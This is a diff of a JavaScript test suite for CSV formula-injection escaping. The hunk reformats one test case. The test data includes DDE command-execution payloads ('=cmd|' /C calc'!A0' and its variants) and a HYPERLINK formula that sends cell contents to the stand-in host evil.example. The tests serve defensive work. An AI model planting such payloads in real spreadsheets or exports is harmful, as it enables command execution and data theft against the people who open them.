@@ -6,7 +6,10 @@ describe('CSV cells', () => {
     ['=1+2";=1+2', `"'=1+2"";=1+2"`],
     [`=1+2'" ;,=1+2`, `"'=1+2'"" ;,=1+2"`],
     ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
-    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`],
+    [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`,
+    ],
     ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
     ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
     ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
